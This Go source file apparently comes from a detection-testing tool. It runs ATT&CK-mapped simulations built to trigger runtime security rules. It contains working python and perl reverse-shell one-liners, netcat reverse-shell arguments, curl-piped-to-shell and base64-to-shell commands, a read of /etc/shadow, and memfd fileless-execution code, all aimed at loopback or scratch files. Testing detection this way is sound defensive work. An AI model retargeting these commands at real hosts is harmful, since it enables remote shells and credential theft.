package simulate

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Environment variables through which a re-executed binary learns which
// step to perform (see stepCommand and StepFromEnv).
const (
	// StepEnv names the step.
	StepEnv = "VIGIL_SIM_STEP"
	// StepArgsEnv holds the step's arguments as a JSON array of strings.
	StepArgsEnv = "VIGIL_SIM_ARGS"
)

const (
	// cmdTimeout bounds every process a simulation starts.
	cmdTimeout = 10 * time.Second
	// stepTimeout bounds a step run by StepFromEnv.
	stepTimeout = 15 * time.Second
	// payloadMarker is what the harmless payloads print.
	payloadMarker = "vigil-simulation"
	// unprivilegedUID runs the user namespace simulation (nobody).
	unprivilegedUID = 65534
)

// Catalog returns the simulations, one or more per built-in rule that can
// be reproduced without changing the host. Each call returns fresh values.
//
// Rules left out because they can only fire on a change to the host:
// "Dynamic linker preload file written" (/etc/ld.so.preload), "Cron job
// created or modified" (/etc/cron*, /var/spool/cron) and "Log file deleted"
// (/var/log).
func Catalog() []Simulation {
	sims := []Simulation{
		{
			Name:        "exec-from-tmp",
			Description: "copies /bin/true into the scratch directory under /tmp and runs it from there",
			Technique:   "T1204.002", Tactic: "execution",
			Rule:  "Execution from a temporary directory",
			Needs: []string{"true"},
			Run:   runExecFromTmp,
		},
		{
			Name:        "memfd-exec",
			Description: "copies /bin/true into a memfd_create file and executes it with execveat (fileless execution)",
			Technique:   "T1620", Tactic: "defense-evasion",
			Rule:  "Fileless execution via memfd",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				bin, err := exec.LookPath("true")
				if err != nil {
					return err
				}
				return runCmd(ctx, env, stepCommand(env, "memfd-exec", bin, payloadMarker))
			},
		},
		{
			Name:        "netcat-reverse-shell",
			Description: "runs a harmless stand-in named nc (a copy of /bin/true) with the arguments of a reverse shell: nc -e /bin/sh 127.0.0.1 PORT",
			Technique:   "T1059.004", Tactic: "execution",
			Rule:  "Reverse shell through netcat or socat",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandIn(ctx, env, "nc", "-e", "/bin/sh", "127.0.0.1", "4444")
			},
		},
		{
			Name:        "python-reverse-shell",
			Description: "a python3 one-liner connects to a loopback listener of the simulation and hands it /bin/sh, which runs `echo; exit`",
			Technique:   "T1059.006", Tactic: "execution",
			Rule:  "Interactive shell from a scripting language one-liner",
			Needs: []string{"python3", "sh"},
			Run: func(ctx context.Context, env *Env) error {
				return runReverseShell(ctx, env, func(port int) *exec.Cmd {
					return exec.Command("python3", "-c", fmt.Sprintf(
						`import socket,subprocess;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("127.0.0.1",%d));subprocess.run(["/bin/sh"],stdin=s,stdout=s,stderr=s,timeout=8);s.close()`, port))
				})
			},
		},
		{
			Name:        "perl-reverse-shell",
			Description: "the classic perl socket one-liner connects to a loopback listener of the simulation, redirects its standard streams to it and runs /bin/sh, which runs `echo; exit`",
			Technique:   "T1059.004", Tactic: "execution",
			Rule:  "Interactive shell from a scripting language one-liner",
			Needs: []string{"perl", "sh"},
			Run: func(ctx context.Context, env *Env) error {
				return runReverseShell(ctx, env, func(port int) *exec.Cmd {
					return exec.Command("perl", "-e", fmt.Sprintf(
						`use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")) or die;connect(S,sockaddr_in(%d,inet_aton("127.0.0.1"))) or die;open(STDIN,"<&S");open(STDOUT,">&S");open(STDERR,">&S");exit(system("/bin/sh") == 0 ? 0 : 1)`, port))
				})
			},
		},
		{
			Name:        "curl-pipe-shell",
			Description: "sh -c 'curl http://127.0.0.1:PORT/install.sh | sh' against an HTTP server of the simulation on loopback serving `echo`",
			Technique:   "T1105", Tactic: "command-and-control",
			Rule:  "Download piped into a shell",
			Needs: []string{"sh", "curl"},
			Run:   runCurlPipeShell,
		},
		{
			Name:        "base64-payload-shell",
			Description: "sh -c 'echo BASE64 | base64 -d | sh' where the payload is `echo vigil-simulation`",
			Technique:   "T1140", Tactic: "defense-evasion",
			Rule:  "Base64-decoded payload executed by a shell",
			Needs: []string{"sh", "base64"},
			Run: func(ctx context.Context, env *Env) error {
				b64 := base64.StdEncoding.EncodeToString([]byte("echo " + payloadMarker + "\n"))
				return runCmd(ctx, env, exec.Command("sh", "-c", "echo "+b64+" | base64 -d | sh"))
			},
		},
		{
			Name:        "crypto-miner",
			Description: "runs a harmless stand-in named xmrig (a copy of /bin/true) given a stratum+tcp:// pool on loopback",
			Technique:   "T1496", Tactic: "impact",
			Rule:  "Crypto miner executed",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandIn(ctx, env, "xmrig", "-o", "stratum+tcp://127.0.0.1:3333", "-u", payloadMarker)
			},
		},
		{
			Name:        "credential-dumper",
			Description: "runs a harmless stand-in named mimipenguin (a copy of /bin/true)",
			Technique:   "T1003", Tactic: "credential-access",
			Rule:  "Credential dumping tool executed",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandIn(ctx, env, "mimipenguin", "--"+payloadMarker)
			},
		},
		{
			Name:        "network-scanner",
			Description: "runs a harmless stand-in named nmap (a copy of /bin/true) with the arguments of a scan of 127.0.0.1",
			Technique:   "T1046", Tactic: "discovery",
			Rule:  "Network scanner executed",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandIn(ctx, env, "nmap", "-sT", "-p", "22", "127.0.0.1")
			},
		},
		{
			Name:        "security-tooling-disabled",
			Description: "runs a harmless stand-in named systemctl (a copy of /bin/true) as `systemctl stop auditd`; nothing is stopped",
			Technique:   "T1562.001", Tactic: "defense-evasion",
			Rule:  "Security tooling disabled",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandIn(ctx, env, "systemctl", "stop", "auditd")
			},
		},
		{
			Name:        "shell-history-cleared",
			Description: "sh -c 'unset HISTFILE; history -c' (the shell's own, in-memory history only)",
			Technique:   "T1070.003", Tactic: "defense-evasion",
			Rule:  "Shell history cleared",
			Needs: []string{"sh"},
			Run: func(ctx context.Context, env *Env) error {
				return runCmd(ctx, env, exec.Command("sh", "-c", "unset HISTFILE; history -c 2>/dev/null; exit 0"))
			},
		},
		{
			Name:        "shell-history-deleted",
			Description: "creates a scratch .bash_history file and deletes it with rm",
			Technique:   "T1070.003", Tactic: "defense-evasion",
			Rule:  "Shell history file deleted",
			Needs: []string{"rm"},
			Run: func(ctx context.Context, env *Env) error {
				dir, err := workDir(env, "history")
				if err != nil {
					return err
				}
				hist := filepath.Join(dir, ".bash_history")
				if err := os.WriteFile(hist, []byte("echo "+payloadMarker+"\n"), 0o600); err != nil {
					return err
				}
				return runCmd(ctx, env, exec.Command("rm", "-f", hist))
			},
		},
		{
			Name:        "deleted-binary-exec",
			Description: "copies /bin/true into the scratch directory, opens it, unlinks it and executes it through /proc/PID/fd",
			Technique:   "T1070.004", Tactic: "defense-evasion",
			Rule:  "Deleted binary executed",
			Needs: []string{"true"},
			Run:   runDeletedBinary,
		},
		{
			Name:        "shadow-read",
			Description: "cat /etc/shadow, its output discarded",
			Technique:   "T1003.008", Tactic: "credential-access",
			Rule:  "Shadow password file read by an unexpected program",
			Needs: []string{"root", "cat"},
			Run: func(ctx context.Context, env *Env) error {
				null, err := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
				if err != nil {
					return err
				}
				defer null.Close()
				cmd := exec.Command("cat", "/etc/shadow")
				cmd.Stdout = null
				return runCmd(ctx, env, cmd)
			},
		},
		{
			Name:        "ssh-authorized-keys",
			Description: "appends a dummy public key to a scratch .ssh/authorized_keys with sh",
			Technique:   "T1098.004", Tactic: "persistence",
			Rule:  "SSH authorized keys modified",
			Needs: []string{"sh"},
			Run: func(ctx context.Context, env *Env) error {
				dir, err := workDir(env, "home")
				if err != nil {
					return err
				}
				ssh := filepath.Join(dir, ".ssh")
				if err := os.Mkdir(ssh, 0o700); err != nil {
					return err
				}
				key := "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHZpZ2lsLXNpbXVsYXRpb24tbm90LWEtcmVhbC1rZXk " + payloadMarker
				return runCmd(ctx, env, exec.Command("sh", "-c", `printf '%s\n' "$1" >> "$2"`, "sh", key, filepath.Join(ssh, "authorized_keys")))
			},
		},
		{
			Name:        "setuid-bit",
			Description: "sets the setuid bit (mode 4755) on a scratch copy of a script with chmod(2)",
			Technique:   "T1548.001", Tactic: "privilege-escalation",
			Rule: "Setuid or setgid bit set on a file",
			Run: func(ctx context.Context, env *Env) error {
				dir, err := workDir(env, "suid")
				if err != nil {
					return err
				}
				f := filepath.Join(dir, "backdoor")
				if err := os.WriteFile(f, []byte("#!/bin/sh\nexit 0\n"), 0o700); err != nil {
					return err
				}
				return runCmd(ctx, env, stepCommand(env, "chmod", "4700", f))
			},
		},
		{
			Name:        "kernel-module-load-attempt",
			Description: "calls finit_module on an invalid file descriptor: the kernel refuses it (EBADF, or EPERM/ENOSYS) before reading anything; no module is loaded",
			Technique:   "T1547.006", Tactic: "persistence",
			Rule:  "Kernel module load by an unexpected program",
			Needs: []string{NeedModules},
			Run: func(ctx context.Context, env *Env) error {
				return runCmd(ctx, env, stepCommand(env, "finit-module"))
			},
		},
		{
			Name:        "ptrace-attach",
			Description: "starts `sleep`, attaches to it with PTRACE_ATTACH, detaches and kills it",
			Technique:   "T1055.008", Tactic: "defense-evasion",
			Rule:  "Process memory or registers tampered with ptrace",
			Needs: []string{"sleep"},
			Run: func(ctx context.Context, env *Env) error {
				return runCmd(ctx, env, stepCommand(env, "ptrace-child"))
			},
		},
		{
			Name:        "mprotect-rwx",
			Description: "maps an anonymous page and makes it readable, writable and executable with mprotect",
			Technique:   "T1055", Tactic: "defense-evasion",
			Rule: "Writable memory made executable",
			Run: func(ctx context.Context, env *Env) error {
				return runCmd(ctx, env, stepCommand(env, "mprotect-rwx"))
			},
		},
		{
			Name:        "packet-socket",
			Description: "opens an AF_PACKET raw socket and closes it without reading a frame",
			Technique:   "T1040", Tactic: "credential-access",
			Rule:  "Packet socket opened by an unexpected program",
			Needs: []string{"root"},
			Run: func(ctx context.Context, env *Env) error {
				return runCmd(ctx, env, stepCommand(env, "packet-socket"))
			},
		},
		{
			Name:        "stdout-to-socket",
			Description: "connects to a loopback listener of the simulation and dup2s the socket onto standard output (a reverse shell's first step)",
			Technique:   "T1059", Tactic: "execution",
			Rule: "Standard input or output redirected to a network connection",
			Run: func(ctx context.Context, env *Env) error {
				ln, err := listenAttacker("")
				if err != nil {
					return err
				}
				err = runCmd(ctx, env, stepCommand(env, "dup-socket", ln.addr()))
				ln.close()
				return err
			},
		},
		{
			Name:        "unprivileged-userns",
			Description: "runs `unshare -U true` as user nobody (uid 65534): an unprivileged user namespace",
			Technique:   "T1068", Tactic: "privilege-escalation",
			Rule:  "User namespace created by an unprivileged program",
			Needs: []string{"root", "unshare", "true"},
			Run: func(ctx context.Context, env *Env) error {
				un, err := exec.LookPath("unshare")
				if err != nil {
					return err
				}
				tr, err := exec.LookPath("true")
				if err != nil {
					return err
				}
				cmd := exec.Command(un, "-U", tr)
				cmd.Dir = "/"
				cmd.SysProcAttr = &syscall.SysProcAttr{
					Credential: &syscall.Credential{Uid: unprivilegedUID, Gid: unprivilegedUID, Groups: []uint32{}},
				}
				return runCmd(ctx, env, cmd)
			},
		},
	}
	all := slices.Concat(sims, moreSimulations(), extraSimulations(), benignSimulations(), nsSimulations(), containerSimulations())
	return withTags(nearMissesOf(all))
}

// nearMissesOf completes each near miss (Benign, named NAME-benign) that
// leaves its technique, tactic or rule empty with those of the firing
// simulation NAME.
func nearMissesOf(all []Simulation) []Simulation {
	byName := make(map[string]int, len(all))
	for i, s := range all {
		byName[s.Name] = i
	}
	for i := range all {
		s := &all[i]
		base, ok := strings.CutSuffix(s.Name, "-benign")
		j, found := byName[base]
		if !s.Benign || !ok || !found {
			continue
		}
		f := all[j]
		if s.Technique == "" {
			s.Technique = f.Technique
		}
		if s.Tactic == "" {
			s.Tactic = f.Tactic
		}
		if s.Rule == "" {
			s.Rule = f.Rule
		}
	}
	return all
}

// withTags sets each simulation's tags: its tactic, its technique and,
// for a sub-technique, the parent technique (T1059.004 gives T1059 too).
func withTags(sims []Simulation) []Simulation {
	for i := range sims {
		s := &sims[i]
		tags := []string{s.Tactic, s.Technique}
		if parent, _, ok := strings.Cut(s.Technique, "."); ok {
			tags = append(tags, parent)
		}
		s.Tags = append(tags, s.Tags...)
	}
	return sims
}

// stepCommand returns the command that re-executes env.Exe to perform a
// step in a process of its own: `EXE simulate exec --step STEP ARGS...`,
// with VIGIL_SIM_STEP and VIGIL_SIM_ARGS (a JSON array) also set, so that a
// binary that checks StepFromEnv early (a test binary) runs it too.
func stepCommand(env *Env, step string, args ...string) *exec.Cmd {
	cmd := exec.Command(env.Exe, append([]string{"simulate", "exec", "--step", step}, args...)...)
	enc, _ := json.Marshal(append([]string{}, args...)) // []string always marshals
	cmd.Env = append(withoutStepEnv(os.Environ()), StepEnv+"="+step, StepArgsEnv+"="+string(enc))
	return cmd
}

func withoutStepEnv(environ []string) []string {
	out := environ[:0:0]
	for _, kv := range environ {
		if strings.HasPrefix(kv, StepEnv+"=") || strings.HasPrefix(kv, StepArgsEnv+"=") {
			continue
		}
		out = append(out, kv)
	}
	return out
}

// StepFromEnv performs the step named by VIGIL_SIM_STEP, with the
// arguments in VIGIL_SIM_ARGS (a JSON array of strings, may be empty or
// unset). ran is false when VIGIL_SIM_STEP is not set. Both variables are
// removed from the environment first, so that programs the step starts do
// not run it again.
func StepFromEnv() (ran bool, err error) {
	step, ok := os.LookupEnv(StepEnv)
	if !ok || step == "" {
		return false, nil
	}
	raw := os.Getenv(StepArgsEnv)
	os.Unsetenv(StepEnv)
	os.Unsetenv(StepArgsEnv)
	var args []string
	if raw != "" {
		if err := json.Unmarshal([]byte(raw), &args); err != nil {
			return true, fmt.Errorf("%s: %w", StepArgsEnv, err)
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), stepTimeout)
	defer cancel()
	return true, Step(ctx, step, args)
}

// Step performs one named action in the calling process, which should be
// a process of its own started for it (see stepCommand). The steps:
//
//	memfd-exec PATH [ARG...]  copy PATH into a memfd_create file and execveat
//	                          it with argv [basename(PATH) ARG...]; on success
//	                          it does not return (the process becomes PATH)
//	ptrace-child              start `sleep 10`, PTRACE_ATTACH to it, wait for
//	                          the stop, PTRACE_DETACH, kill and reap it
//	mprotect-rwx              mmap an anonymous read-write page and mprotect it
//	                          to read-write-execute, then unmap it
//	packet-socket             open an AF_PACKET raw socket and close it
//	dup-socket [ADDR]         connect over TCP to ADDR (127.0.0.1:PORT; default:
//	                          a listener of its own on 127.0.0.1) and dup2 the
//	                          socket onto standard output
//	chmod MODE PATH           chmod(2) PATH to octal MODE (e.g. 4700)
//	connect-unix PATH         connect to the unix stream socket PATH and close
//	bpf-prog-load             load a socket filter BPF program that returns 0
//	                          (attached to nothing) and close it
//	bpf-map-create            create a one-entry BPF array map and close it
//	finit-module              finit_module(-1, "", 0): a module load the kernel
//	                          refuses on the bad descriptor; any error is the
//	                          expected outcome, success is an error
func Step(ctx context.Context, name string, args []string) error {
	switch name {
	case "memfd-exec":
		if len(args) < 1 {
			return errors.New("memfd-exec: want PATH [ARG...]")
		}
		return memfdExec(args[0], append([]string{filepath.Base(args[0])}, args[1:]...))
	case "ptrace-child":
		return ptraceChild(ctx)
	case "mprotect-rwx":
		mem, err := unix.Mmap(-1, 0, os.Getpagesize(), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS)
		if err != nil {
			return fmt.Errorf("mmap: %w", err)
		}
		defer unix.Munmap(mem)
		if err := unix.Mprotect(mem, unix.PROT_READ|unix.PROT_WRITE|unix.PROT_EXEC); err != nil {
			return fmt.Errorf("mprotect: %w", err)
		}
		return nil
	case "packet-socket":
		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return fmt.Errorf("socket(AF_PACKET): %w", err)
		}
		return unix.Close(fd)
	case "dup-socket":
		addr := ""
		if len(args) > 0 {
			addr = args[0]
		}
		return dupSocket(addr)
	case "chmod":
		if len(args) != 2 {
			return errors.New("chmod: want MODE PATH")
		}
		mode, err := strconv.ParseUint(args[0], 8, 32)
		if err != nil {
			return fmt.Errorf("chmod: mode: %w", err)
		}
		if err := unix.Fchmodat(unix.AT_FDCWD, args[1], uint32(mode), 0); err != nil {
			return fmt.Errorf("chmod %s: %w", args[1], err)
		}
		return nil
	case "connect-unix":
		if len(args) != 1 {
			return errors.New("connect-unix: want PATH")
		}
		c, err := net.DialTimeout("unix", args[0], 5*time.Second)
		if err != nil {
			return fmt.Errorf("connect-unix: %w", err)
		}
		return c.Close()
	case "bpf-prog-load":
		return bpfProgLoad()
	case "bpf-map-create":
		return bpfMapCreate()
	case "finit-module":
		err := unix.FinitModule(-1, "", 0)
		if err == nil {
			return errors.New("finit_module(-1) succeeded")
		}
		return nil
	}
	return fmt.Errorf("unknown step %q", name)
}

func memfdExec(bin string, argv []string) error {
	b, err := os.ReadFile(bin)
	if err != nil {
		return err
	}
	fd, err := unix.MemfdCreate(payloadMarker, unix.MFD_CLOEXEC)
	if err != nil {
		return fmt.Errorf("memfd_create: %w", err)
	}
	defer unix.Close(fd)
	for len(b) > 0 {
		n, err := unix.Write(fd, b)
		if err != nil {
			return fmt.Errorf("write memfd: %w", err)
		}
		b = b[n:]
	}
	argvp, err := syscall.SlicePtrFromStrings(argv)
	if err != nil {
		return err
	}
	envp, err := syscall.SlicePtrFromStrings(withoutStepEnv(os.Environ()))
	if err != nil {
		return err
	}
	empty := []byte{0}
	_, _, errno := unix.Syscall6(unix.SYS_EXECVEAT, uintptr(fd), uintptr(unsafe.Pointer(&empty[0])),
		uintptr(unsafe.Pointer(&argvp[0])), uintptr(unsafe.Pointer(&envp[0])), unix.AT_EMPTY_PATH, 0)
	return fmt.Errorf("execveat: %w", errno)
}

func ptraceChild(ctx context.Context) error {
	child := exec.CommandContext(ctx, "sleep", "10")
	if err := child.Start(); err != nil {
		return err
	}
	defer func() {
		_ = child.Process.Kill()
		_ = child.Wait()
	}()
	// ptrace requests must come from the tracer thread.
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	pid := child.Process.Pid
	if err := unix.PtraceAttach(pid); err != nil {
		return fmt.Errorf("PTRACE_ATTACH %d: %w", pid, err)
	}
	var ws unix.WaitStatus
	if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil {
		return fmt.Errorf("wait for tracee: %w", err)
	}
	if err := unix.PtraceDetach(pid); err != nil {
		return fmt.Errorf("PTRACE_DETACH: %w", err)
	}
	return nil
}

func dupSocket(addr string) error {
	var sa unix.Sockaddr
	if addr == "" {
		ln, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return err
		}
		defer unix.Close(ln)
		if err := unix.Bind(ln, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}}); err != nil {
			return err
		}
		if err := unix.Listen(ln, 1); err != nil {
			return err
		}
		if sa, err = unix.Getsockname(ln); err != nil {
			return err
		}
	} else {
		host, port, err := net.SplitHostPort(addr)
		if err != nil {
			return err
		}
		ip := net.ParseIP(host).To4()
		if ip == nil || !ip.IsLoopback() {
			return fmt.Errorf("dup-socket: %s is not an IPv4 loopback address", addr)
		}
		p, err := strconv.Atoi(port)
		if err != nil {
			return err
		}
		s4 := &unix.SockaddrInet4{Port: p}
		copy(s4.Addr[:], ip)
		sa = s4
	}
	c, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(c)
	if err := unix.Connect(c, sa); err != nil {
		return fmt.Errorf("connect: %w", err)
	}
	if err := unix.Dup2(c, 1); err != nil {
		return fmt.Errorf("dup2: %w", err)
	}
	return nil
}

// runCmd runs cmd in a process group of its own, bounded by ctx and
// cmdTimeout, and returns once it and anything left in its group is dead.
// A nil Stdout or Stderr is captured for the error message.
func runCmd(ctx context.Context, env *Env, cmd *exec.Cmd) error {
	ctx, cancel := context.WithTimeout(ctx, cmdTimeout)
	defer cancel()
	if cmd.SysProcAttr == nil {
		cmd.SysProcAttr = &syscall.SysProcAttr{}
	}
	cmd.SysProcAttr.Setpgid = true
	cmd.WaitDelay = 2 * time.Second
	var out bytes.Buffer
	if cmd.Stdout == nil {
		cmd.Stdout = &capped{w: &out}
	}
	if cmd.Stderr == nil {
		cmd.Stderr = &capped{w: &out}
	}
	fmt.Fprintf(env.Out, "  $ %s\n", strings.Join(cmd.Args, " "))
	var err error
	for try := 0; ; try++ {
		// A concurrent fork may briefly hold a just-written copy open.
		if err = cmd.Start(); err == nil || !errors.Is(err, syscall.ETXTBSY) || try == 10 {
			break
		}
		time.Sleep(50 * time.Millisecond)
		path, args := cmd.Path, cmd.Args
		*cmd = exec.Cmd{Path: path, Args: args, Env: cmd.Env, Dir: cmd.Dir, Stdin: cmd.Stdin,
			Stdout: cmd.Stdout, Stderr: cmd.Stderr, ExtraFiles: cmd.ExtraFiles, SysProcAttr: cmd.SysProcAttr, WaitDelay: cmd.WaitDelay}
	}
	if err != nil {
		return err
	}
	pgid := cmd.Process.Pid
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case err = <-done:
	case <-ctx.Done():
		_ = syscall.Kill(-pgid, syscall.SIGKILL)
		<-done
		err = fmt.Errorf("%s: %w", cmd.Args[0], ctx.Err())
	}
	// Whatever it left in its group: the group id cannot be reused while
	// a member lives.
	_ = syscall.Kill(-pgid, syscall.SIGKILL)
	if err != nil {
		if s := strings.TrimSpace(out.String()); s != "" {
			err = fmt.Errorf("%w: %s", err, s)
		}
		return err
	}
	return nil
}

// capped keeps the first 4 KiB written to it.
type capped struct{ w *bytes.Buffer }

func (c *capped) Write(p []byte) (int, error) {
	if room := 4096 - c.w.Len(); room > 0 {
		c.w.Write(p[:min(len(p), room)])
	}
	return len(p), nil
}

// workDir makes a fresh directory below env.Scratch.
func workDir(env *Env, name string) (string, error) {
	if env.Scratch == "" {
		return "", errors.New("no scratch directory")
	}
	return os.MkdirTemp(env.Scratch, name+"-")
}

// copyProgram copies the program prog (found on PATH) to dir/name.
func copyProgram(prog, dir, name string) (string, error) {
	src, err := exec.LookPath(prog)
	if err != nil {
		return "", err
	}
	in, err := os.Open(src)
	if err != nil {
		return "", err
	}
	defer in.Close()
	dst := filepath.Join(dir, name)
	out, err := os.OpenFile(dst, os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o755)
	if err != nil {
		return "", err
	}
	if _, err := io.Copy(out, in); err != nil {
		out.Close()
		return "", err
	}
	return dst, out.Close()
}

// runStandIn runs a copy of /bin/true named name from the scratch
// directory with args: rules that look at a program's name fire on it,
// and it does nothing.
func runStandIn(ctx context.Context, env *Env, name string, args ...string) error {
	dir, err := workDir(env, name)
	if err != nil {
		return err
	}
	bin, err := copyProgram("true", dir, name)
	if err != nil {
		return err
	}
	return runCmd(ctx, env, exec.Command(bin, args...))
}

func runExecFromTmp(ctx context.Context, env *Env) error {
	dir, err := workDir(env, "tmp-exec")
	if err != nil {
		return err
	}
	if !strings.HasPrefix(dir, "/tmp/") && !strings.HasPrefix(dir, "/var/tmp/") && !strings.HasPrefix(dir, "/dev/shm/") {
		return fmt.Errorf("scratch directory %s is not under /tmp, /var/tmp or /dev/shm", dir)
	}
	bin, err := copyProgram("true", dir, "payload")
	if err != nil {
		return err
	}
	return runCmd(ctx, env, exec.Command(bin, payloadMarker))
}

func runDeletedBinary(ctx context.Context, env *Env) error {
	dir, err := workDir(env, "deleted")
	if err != nil {
		return err
	}
	bin, err := copyProgram("true", dir, "payload")
	if err != nil {
		return err
	}
	f, err := os.Open(bin)
	if err != nil {
		return err
	}
	defer f.Close()
	if err := os.Remove(bin); err != nil {
		return err
	}
	// The child resolves this through our descriptor table, which still
	// holds the unlinked file.
	path := fmt.Sprintf("/proc/%d/fd/%d", os.Getpid(), f.Fd())
	return runCmd(ctx, env, exec.Command(path, payloadMarker))
}

// attacker is a loopback TCP listener standing for a remote attacker: it
// accepts one connection, sends commands, and reads what comes back.
type attacker struct {
	ln   net.Listener
	done chan string
}

func listenAttacker(commands string) (*attacker, error) {
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	a := &attacker{ln: ln, done: make(chan string, 1)}
	go func() {
		c, err := ln.Accept()
		if err != nil {
			a.done <- ""
			return
		}
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(cmdTimeout))
		if commands != "" {
			_, _ = io.WriteString(c, commands)
		}
		b, _ := io.ReadAll(io.LimitReader(c, 64<<10))
		a.done <- string(b)
	}()
	return a, nil
}

func (a *attacker) addr() string { return a.ln.Addr().String() }
func (a *attacker) port() int    { return a.ln.Addr().(*net.TCPAddr).Port }

// close stops listening and returns what the connection sent, if any.
func (a *attacker) close() string {
	a.ln.Close()
	return <-a.done
}

// runReverseShell runs the command mk returns for the attacker's port: it
// must connect to it and hand it a shell, which runs `echo; exit`.
func runReverseShell(ctx context.Context, env *Env, mk func(port int) *exec.Cmd) error {
	a, err := listenAttacker("echo " + payloadMarker + "\nexit 0\n")
	if err != nil {
		return err
	}
	err = runCmd(ctx, env, mk(a.port()))
	got := a.close()
	if err != nil {
		return err
	}
	if !strings.Contains(got, payloadMarker) {
		return fmt.Errorf("the shell did not answer on the loopback connection (got %q)", got)
	}
	return nil
}

func runCurlPipeShell(ctx context.Context, env *Env) error {
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		return err
	}
	srv := &http.Server{
		Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			io.WriteString(w, "echo "+payloadMarker+"\n")
		}),
		ReadHeaderTimeout: cmdTimeout,
	}
	go srv.Serve(ln)
	defer func() {
		sctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		defer cancel()
		_ = srv.Shutdown(sctx)
		_ = srv.Close()
	}()
	url := "http://" + ln.Addr().String() + "/install.sh"
	return runCmd(ctx, env, exec.Command("sh", "-c", "curl -fsS --max-time 5 "+url+" | sh"))
}
